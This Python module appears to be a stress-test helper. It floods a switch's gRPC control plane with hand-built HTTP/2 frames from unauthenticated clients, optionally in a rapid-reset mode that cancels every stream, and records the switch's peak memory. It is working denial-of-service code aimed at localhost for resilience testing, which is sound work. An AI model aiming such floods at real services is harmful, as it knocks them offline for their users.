"""Clients without a key that attack the control plane of a switch with raw HTTP/2 frames."""

from __future__ import annotations

import contextlib
import socket
import struct
import time
from collections.abc import Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
EMPTY_MESSAGE = bytes(5)  # gRPC's prefix: not compressed, no bytes


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(text: bytes) -> bytes:
    """A string in HPACK, not Huffman-coded, of at most 126 bytes."""
    return bytes([len(text)]) + text


def headers(method: str, **metadata: bytes) -> bytes:
    """Header block of a call; HPACK's table keeps the last four fields for SAME_HEADERS."""
    own = b"".join(
        b"\x00" + literal(name.replace("_", "-").encode()) + literal(value) for name, value in metadata.items()
    )
    return (
        b"\x83\x86\x44" + literal(method.encode()) + b"\x41" + literal(b"switch")
        + b"\x5f" + literal(b"application/grpc") + b"\x40" + literal(b"te") + literal(b"trailers") + own
    )  # fmt: skip


SAME_HEADERS = b"\x83\x86\xc1\xc0\xbf\xbe"
JOIN = "/switchml_proto.Session/UdpSession"


def call(stream: int, block: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)


def reset_call(stream: int, block: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)


class Attacker:
    """A connection that sends calls and never reads the replies."""

    def __init__(self, port: int, *, resets: bool = False, host: str = "127.0.0.1") -> None:
        self.address, self.make = (host, port), reset_call if resets else call
        self.sent = self.connections = 0
        self.socket: socket.socket | None = None

    def connect(self) -> None:
        self.socket = socket.create_connection(self.address, timeout=5)
        self.socket.setblocking(False)
        self.connections += 1
        self.stream = 1
        self.pending = memoryview(PREFACE + frame(SETTINGS, 0, 0) + self.make(1, headers(JOIN)))

    def step(self) -> bool:
        """Sends as much as the connection takes; reconnects if the switch has closed it. Returns whether it sent."""
        try:
            if self.socket is None:
                self.connect()
            assert self.socket is not None
            if not self.pending:
                first, self.stream = self.stream + 2, self.stream + 4000
                self.pending = memoryview(
                    b"".join(self.make(stream, SAME_HEADERS) for stream in range(first, self.stream + 1, 2))
                )
            count = self.socket.send(self.pending)
            self.sent += count
            self.pending = self.pending[count:]
            return True
        except BlockingIOError:
            return False
        except OSError:
            self.close()
            return False

    def close(self) -> None:
        if self.socket is not None:
            self.socket.close()
        self.socket = None


@contextlib.contextmanager
def attackers(port: int, count: int, *, resets: bool = False, host: str = "127.0.0.1") -> Iterator[list[Attacker]]:
    all_of_them = [Attacker(port, resets=resets, host=host) for _ in range(count)]
    try:
        yield all_of_them
    finally:
        for attacker in all_of_them:
            attacker.close()


def resident_bytes(pid: int) -> int:
    """Resident memory of a process."""
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) << 10 for line in status if line.startswith("VmRSS"))


def flood(port: int, pid: int, seconds: float, connections: int, *, resets: bool = False) -> tuple[int, int]:
    """Attacks for `seconds`. Returns the largest resident memory of the switch `pid` and the bytes sent."""
    largest, end = 0, time.monotonic() + seconds
    with attackers(port, connections, resets=resets) as strangers:
        while time.monotonic() < end:
            if sum(stranger.step() for stranger in strangers) == 0:
                time.sleep(0.005)
            largest = max(largest, resident_bytes(pid))
        return largest, sum(stranger.sent for stranger in strangers)
